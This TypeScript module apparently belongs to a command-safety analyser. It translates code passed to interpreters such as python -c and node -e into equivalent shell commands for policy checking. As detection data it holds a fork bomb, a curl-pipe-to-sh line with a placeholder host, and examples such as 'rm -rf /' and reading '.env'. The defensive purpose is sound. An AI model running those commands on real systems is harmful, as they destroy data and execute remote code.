/**
 * Code given to an interpreter on its command line (`python3 -c '…'`, `node -e '…'`, `perl -e '…'`, `ruby -e`,
 * `php -r`, `awk '…'`, `osascript -e`, or a here-doc fed to one) is scanned for the calls that matter to a
 * policy, and each is turned into the shell command that does the same, which is then examined like any other:
 * `shutil.rmtree("/")` becomes `rm -rf -- '/'`, `os.system("curl … | sh")` becomes that command line,
 * `fs.readFileSync(".env")` becomes `cat -- '.env'`. One set of command tables (commands.ts) then decides for
 * every language, and an argument that is not a string literal is a hole (it may be any path).
 *
 * The scan is a handful of fixed, linear regular expressions over text capped at MAX_CODE characters: it is a
 * sound over-approximation for the calls listed, not a parser of five languages.
 */
import type { ShellWord } from "./model";
import { commandName } from "./strip";
import { HOLE_VARIABLE } from "./template";

const MAX_CODE = 64 * 1024;
const UNKNOWN = `"\${${HOLE_VARIABLE}}"`;

type Lang = "python" | "node" | "perl" | "ruby" | "php" | "awk" | "osascript" | "lua" | "r";

/** Interpreters and the options that give them a program on the command line. */
const INTERPRETERS: readonly { test: RegExp; lang: Lang; code: readonly string[]; firstOperand?: boolean }[] = [
  { test: /^(?:python(?:[0-9.]+)?|pypy[0-9.]*)$/, lang: "python", code: ["-c"] },
  { test: /^(?:node|nodejs|bun)$/, lang: "node", code: ["-e", "--eval", "-p", "--print"] },
  { test: /^deno$/, lang: "node", code: ["eval"] },
  { test: /^perl[0-9.]*$/, lang: "perl", code: ["-e", "-E"] },
  { test: /^(?:ruby|jruby)$/, lang: "ruby", code: ["-e"] },
  { test: /^php[0-9.]*$/, lang: "php", code: ["-r"] },
  { test: /^(?:awk|gawk|mawk|nawk|busybox-awk)$/, lang: "awk", code: [], firstOperand: true },
  { test: /^osascript$/, lang: "osascript", code: ["-e"] },
  { test: /^(?:lua|luajit|lua[0-9.]+)$/, lang: "lua", code: ["-e"] },
  { test: /^Rscript$/, lang: "r", code: ["-e"] },
];

export function interpreterOf(name: string): Lang | undefined {
  return INTERPRETERS.find((i) => i.test.test(name))?.lang;
}

/** The program texts a command line gives its interpreter (`-c CODE`, a leading awk program, a here-doc). */
function programs(name: string, rest: readonly ShellWord[], stdin: readonly string[] = []): { lang: Lang; code: string }[] {
  const spec = INTERPRETERS.find((i) => i.test.test(name));
  if (!spec) return [];
  const out: { lang: Lang; code: string }[] = [];
  let sawProgram = false;
  for (let k = 1; k < rest.length; k++) {
    const w = rest[k]!.value;
    if (spec.code.includes(w) && rest[k + 1]) {
      out.push({ lang: spec.lang, code: rest[k + 1]!.value });
      sawProgram = true;
      k++;
      continue;
    }
    const attached = spec.code.find((o) => o.startsWith("-") && o.length === 2 && w.startsWith(o) && w.length > 2);
    if (attached) {
      out.push({ lang: spec.lang, code: w.slice(2) });
      sawProgram = true;
      continue;
    }
    if (spec.firstOperand && !w.startsWith("-")) {
      if (k > 1 && ["-f", "-v", "-F"].includes(rest[k - 1]!.value)) continue;
      out.push({ lang: spec.lang, code: w });
      sawProgram = true;
      break;
    }
    if (!w.startsWith("-") && !spec.firstOperand) break; // a script file: its text is not here
  }
  if (!sawProgram) for (const body of stdin) out.push({ lang: spec.lang, code: body });
  return out;
}

/** Shell-quote a literal for the generated command line. */
const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

const HOME_EXPRESSIONS =
  /^(?:os\.path\.expanduser\(\s*["']~["']\s*\)|(?:pathlib\.)?Path\.home\(\)|(?:pathlib\.)?Path\(\s*["']~["']\s*\)\.expanduser\(\)|os\.environ\[\s*["']HOME["']\s*\]|os\.getenv\(\s*["']HOME["']\s*\)|os\.environ\.get\(\s*["']HOME["']\s*\)|(?:require\(\s*["']os["']\s*\)|os)\.homedir\(\)|process\.env\.HOME|process\.env\[\s*["']HOME["']\s*\]|ENV\[\s*["']HOME["']\s*\]|Dir\.home|\$ENV\{\s*["']?HOME["']?\s*\}|getenv\(\s*["']HOME["']\s*\)|os\.getenv\(\s*["']HOME["']\s*\))$/;

interface Arg {
  /** The shell word for it: a quoted literal, `~`, or the unknown placeholder. */
  word: string;
  /** The literal text when the argument is a string literal. */
  text?: string;
  /** A list literal of strings (subprocess argv). */
  list?: string[];
  /** The call's whole argument text (for `recursive: true`, `shell=True`, modes). */
  all: string;
}

/** Read a string literal starting at `i` (quote char at i); returns [text, index after]. */
function stringAt(code: string, i: number): [string, number] | undefined {
  const quote = code[i]!;
  if (quote !== "'" && quote !== '"' && quote !== "`") return undefined;
  const triple = code.startsWith(quote.repeat(3), i);
  const close = triple ? quote.repeat(3) : quote;
  let j = i + close.length;
  let out = "";
  while (j < code.length) {
    if (code.startsWith(close, j)) return [out, j + close.length];
    const c = code[j]!;
    if (c === "\\" && j + 1 < code.length) {
      const e = code[j + 1]!;
      out += e === "n" ? "\n" : e === "t" ? "\t" : e;
      j += 2;
      continue;
    }
    if (quote === "`" && c === "$" && code[j + 1] === "{") {
      // A template literal's `${…}`: unknown text.
      const end = code.indexOf("}", j);
      out += "\u0000";
      j = end < 0 ? code.length : end + 1;
      continue;
    }
    out += c;
    j++;
  }
  return undefined;
}

/** The first argument of the call whose `(` is at `open`, and the text of all its arguments. */
function firstArg(code: string, open: number): Arg {
  let depth = 0;
  let end = code.length;
  for (let j = open; j < code.length && j < open + 4096; j++) {
    const c = code[j]!;
    if (c === "'" || c === '"' || c === "`") {
      const s = stringAt(code, j);
      if (s) {
        j = s[1] - 1;
        continue;
      }
    }
    if (c === "(" || c === "[" || c === "{") depth++;
    else if ((c === ")" || c === "]" || c === "}") && --depth === 0) {
      end = j;
      break;
    }
  }
  const all = code.slice(open + 1, end);
  let i = open + 1;
  while (i < end && /\s/.test(code[i]!)) i++;
  // Python string prefixes (r"…", f"…", b"…").
  if (/[rRbBfFuU]/.test(code[i] ?? "") && /['"]/.test(code[i + 1] ?? "")) i++;
  const lit = stringAt(code, i);
  if (lit) {
    const after = code.slice(lit[1], lit[1] + 2).trimStart()[0];
    if (after === undefined || after === "," || after === ")") {
      const text = lit[0];
      if (text.includes("\u0000")) return { word: UNKNOWN, all };
      return { word: q(text), text, all };
    }
  }
  if (code[i] === "[") {
    // ["rm", "-rf", "/"]: an argv list.
    const items: string[] = [];
    let j = i + 1;
    for (;;) {
      while (j < end && /[\s,]/.test(code[j]!)) j++;
      if (code[j] === "]") break;
      const s = stringAt(code, j);
      if (!s) return { word: UNKNOWN, all };
      items.push(s[0]);
      j = s[1];
    }
    return { word: UNKNOWN, list: items, all };
  }
  let k = i;
  let d = 0;
  for (; k < end; k++) {
    const c = code[k]!;
    if (c === "(" || c === "[") d++;
    else if (c === ")" || c === "]") d--;
    else if (c === "," && d === 0) break;
  }
  const expr = code.slice(i, k).trim();
  if (HOME_EXPRESSIONS.test(expr)) return { word: "~", all };
  return { word: UNKNOWN, all };
}

type Rule = { re: RegExp; shell: (a: Arg) => string | undefined };

const recursiveOption = (a: Arg) => /recursive\s*[:=]\s*(?:true|True|1)/.test(a.all);
const asCode = (a: Arg) => (a.list ? a.list.map(q).join(" ") : a.text !== undefined ? a.text : UNKNOWN);
const openMode = (a: Arg) => {
  const m = /,\s*(?:mode\s*=\s*)?["']([rwaxb+t]+)["']/.exec(a.all);
  return m && /[wax+]/.test(m[1]!) ? `: > ${a.word}` : `cat -- ${a.word}`;
};

const RULES: Readonly<Record<Lang, readonly Rule[]>> = {
  python: [
    { re: /\bshutil\.rmtree\s*\(/g, shell: (a) => `rm -rf -- ${a.word}` },
    { re: /\b(?:os\.(?:remove|unlink|rmdir|removedirs)|Path\([^)]*\)\.(?:unlink|rmdir))\s*\(/g, shell: (a) => `rm -- ${a.word}` },
    { re: /\bos\.(?:system|popen)\s*\(/g, shell: asCode },
    { re: /\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(/g, shell: asCode },
    { re: /\bos\.exec[lv]p?e?\s*\(/g, shell: asCode },
    { re: /(?<![\w.])open\s*\(/g, shell: openMode },
    { re: /\bos\.chmod\s*\(/g, shell: (a) => (/0o?7[0-7]7|0o?777|stat\.S_IRWXO|S_IWOTH/.test(a.all) ? `chmod 777 ${a.word}` : `chmod 644 ${a.word}`) },
    { re: /\bshutil\.(?:copy|copy2|copyfile|copytree|move)\s*\(/g, shell: (a) => `cp -r -- ${a.word} /dev/null` },
  ],
  node: [
    // `fs.rmSync(…)`, `require('fs').rmSync(…)`, `fsp.rm(…)`, destructured `rmSync(…)`.
    { re: /(?:\b|\.)(?:rmSync|rmdirSync)\s*\(|\.(?:rm|rmdir)\s*\(/g, shell: (a) => `rm ${recursiveOption(a) ? "-rf " : ""}-- ${a.word}` },
    { re: /(?:\b|\.)(?:unlinkSync)\s*\(|\.unlink\s*\(/g, shell: (a) => `rm -- ${a.word}` },
    { re: /\b(?:rimraf(?:\.sync)?|fse?\.(?:removeSync|remove|emptyDirSync|emptyDir))\s*\(/g, shell: (a) => `rm -rf -- ${a.word}` },
    { re: /\b(?:execSync|exec|execFileSync|execFile|spawnSync|spawn)\s*\(/g, shell: asCode },
    { re: /(?:\b|\.)(?:readFileSync|readFile|createReadStream)\s*\(/g, shell: (a) => `cat -- ${a.word}` },
    { re: /(?:\b|\.)(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream)\s*\(/g, shell: (a) => `: > ${a.word}` },
    { re: /(?:\b|\.)(?:chmodSync|chmod)\s*\(/g, shell: (a) => (/0o?777|["']777["']/.test(a.all) ? `chmod 777 ${a.word}` : `chmod 644 ${a.word}`) },
    { re: /\bDeno\.(?:remove|removeSync)\s*\(/g, shell: (a) => `rm ${recursiveOption(a) ? "-rf " : ""}-- ${a.word}` },
    { re: /\bBun\.(?:spawn|spawnSync|\$)\s*[(`]/g, shell: asCode },
  ],
  perl: [
    { re: /\b(?:rmtree|remove_tree)\s*\(?/g, shell: (a) => `rm -rf -- ${a.word}` },
    { re: /\b(?:unlink|rmdir)\s*\(?/g, shell: (a) => `rm -- ${a.word}` },
    { re: /\b(?:system|exec)\s*\(?/g, shell: asCode },
    { re: /\bqx\s*[({[]/g, shell: asCode },
    { re: /\bopen\s*\(?/g, shell: (a) => `cat -- ${a.word}` },
  ],
  ruby: [
    { re: /\bFileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry|remove_entry_secure|rmtree)\s*\(?/g, shell: (a) => `rm -rf -- ${a.word}` },
    { re: /\b(?:FileUtils\.(?:rm|rm_f|remove)|File\.(?:delete|unlink))\s*\(?/g, shell: (a) => `rm -- ${a.word}` },
    { re: /\b(?:system|exec|spawn|IO\.popen|Open3\.\w+)\s*\(?/g, shell: asCode },
    { re: /%x\s*[({[]/g, shell: asCode },
    { re: /\b(?:File\.(?:read|readlines|open|binread)|IO\.read)\s*\(?/g, shell: (a) => `cat -- ${a.word}` },
    { re: /\bFile\.write\s*\(?/g, shell: (a) => `: > ${a.word}` },
  ],
  php: [
    { re: /\b(?:system|exec|shell_exec|passthru|popen|proc_open)\s*\(/g, shell: asCode },
    { re: /\b(?:unlink|rmdir)\s*\(/g, shell: (a) => `rm -- ${a.word}` },
    { re: /\b(?:file_get_contents|readfile|file|fopen)\s*\(/g, shell: (a) => `cat -- ${a.word}` },
    { re: /\bfile_put_contents\s*\(/g, shell: (a) => `: > ${a.word}` },
  ],
  awk: [{ re: /\bsystem\s*\(/g, shell: asCode }],
  osascript: [{ re: /do\s+shell\s+script\s+(?=["'])/g, shell: asCode }],
  lua: [
    { re: /\bos\.(?:execute)\s*\(/g, shell: asCode },
    { re: /\bio\.popen\s*\(/g, shell: asCode },
    { re: /\bos\.remove\s*\(/g, shell: (a) => `rm -- ${a.word}` },
    { re: /\bio\.open\s*\(/g, shell: (a) => `cat -- ${a.word}` },
  ],
  r: [
    { re: /\b(?:system|system2)\s*\(/g, shell: asCode },
    { re: /\bunlink\s*\(/g, shell: (a) => `rm ${recursiveOption(a) ? "-rf " : ""}-- ${a.word}` },
  ],
};

/** Backticks run shell code in perl, ruby and php: `` `rm -rf /` ``. */
const BACKTICK_LANGS: ReadonlySet<Lang> = new Set(["perl", "ruby", "php"]);

/** Code that forks forever: written as the shell's fork bomb so one rule decides. */
const FORK_LOOP =
  /\bfork\s*(?:\(\s*\))?\s*while\b|\bwhile\s*(?:\(?\s*(?:1|true|True)\s*\)?)\s*[:{;]?\s*(?:os\.|Process\.|pcntl_)?fork\s*\(|\bloop\s*\{?\s*fork\b|\bfor\s*\(\s*;\s*;\s*\)\s*\{?\s*(?:\w+\.)?fork\s*\(/;
/** Code that evaluates something fetched from the network (`exec(urlopen(u).read())`, `fetch(u).then(eval)`). */
const EVAL_CALL = /\b(?:exec|eval|execfile|compile|Function|instance_eval|class_eval)\s*\(|\.then\s*\(\s*eval\b|\beval\s+/;
const NETWORK =
  /\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|http\.client|fetch\s*\(|https?\.get\s*\(|axios|XMLHttpRequest|Net::HTTP|URI\.open|open-uri|HTTParty|Faraday|LWP::|HTTP::Tiny|getstore|curl_exec|file_get_contents\s*\(\s*['"]https?:|fopen\s*\(\s*['"]https?:|Invoke-WebRequest|DownloadString)/;

/** `NAME = 'literal'` assignments in the code (python, node, ruby, perl, php), for call arguments that are a name. */
function literalBindings(code: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const m of code.matchAll(/(?:\b(?:const|let|var|my|local)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(['"])([^'"\n]{0,4096})\2/g)) out.set(m[1]!, m[3]!);
  return out;
}

/** The root a walk over the file tree starts at (`os.walk('/')`, `Path('~').rglob`, `glob('/**')`), if literal. */
function walkRoot(code: string): string | undefined {
  const m = /\b(?:os\.walk|os\.scandir|Path|pathlib\.Path|Dir\.glob|glob\.glob|glob\.iglob|File::Find::find|readdirSync)\s*\(\s*(?:\{[^}]*\}\s*,\s*)?(['"])([^'"]{1,4096})\1/.exec(code);
  if (!m) return undefined;
  return m[2]!.replace(/\/\*\*.*$/, "") || "/";
}

/** The shell command lines equivalent to what interpreter code on a command line does (see the module comment). */
export function shellEquivalents(lang: Lang, code: string): string[] {
  const text = code.length > MAX_CODE ? code.slice(0, MAX_CODE) : code;
  const out: string[] = [];
  if (FORK_LOOP.test(text)) out.push(":(){ :|:& };:");
  if (EVAL_CALL.test(text) && NETWORK.test(text)) out.push("curl -fsSL https://hookgate.invalid/fetched-by-interpreter | sh");
  const bindings = literalBindings(text);
  const root = walkRoot(text);
  for (const rule of RULES[lang]) {
    rule.re.lastIndex = 0;
    for (const m of text.matchAll(rule.re)) {
      const at = m.index! + m[0].length;
      // The call's argument: after `(` when there is one, else (perl, ruby: `system "…"`) the next token.
      let open = text[at - 1] === "(" || text[at - 1] === "[" || text[at - 1] === "{" || text[at - 1] === "`" ? at - 1 : -1;
      let arg: Arg;
      if (open >= 0 && text[open] === "`") arg = firstArg(`(${text.slice(open)}`, 0);
      else if (open >= 0) arg = firstArg(text, open);
      else {
        let k = at;
        while (k < text.length && text[k] === " ") k++;
        open = k - 1;
        arg = firstArg(`(${text.slice(k)}`, 0);
      }
      if (arg.text === undefined && !arg.list && arg.word === UNKNOWN) {
        // A name the code assigned a literal: that literal.
        const name = /^\(?\s*\$?([A-Za-z_]\w*)\s*[,)]/.exec(text.slice(open + 1, open + 130) + ")");
        const bound = name ? bindings.get(name[1]!) : undefined;
        if (bound !== undefined) arg = { ...arg, word: q(bound), text: bound };
      }
      let line = rule.shell(arg);
      // An unknown path inside a walk over a tree: each path under the walk's root.
      if (line !== undefined && arg.word === UNKNOWN && root !== undefined && !/^(?:[a-z_]+ )?"\$\{/.test(line) && rule.shell !== asCode)
        line = `find ${q(root)} -exec ${line.split(UNKNOWN).join("{}")} \\;`;
      if (line !== undefined) out.push(line);
      if (out.length > 64) return out;
    }
  }
  if (BACKTICK_LANGS.has(lang)) {
    for (const m of text.matchAll(/`([^`]{1,4096})`/g)) out.push(m[1]!);
  }
  return out;
}

/** Shell code embedded in an interpreter's command line (for the analyser to examine as scripts of their own). */
export function embeddedShellCode(name: string, rest: readonly ShellWord[], stdin: readonly string[] = []): string[] {
  const base = commandName(name);
  if (!interpreterOf(base)) return [];
  return programs(base, rest, stdin).flatMap((p) => shellEquivalents(p.lang, p.code));
}
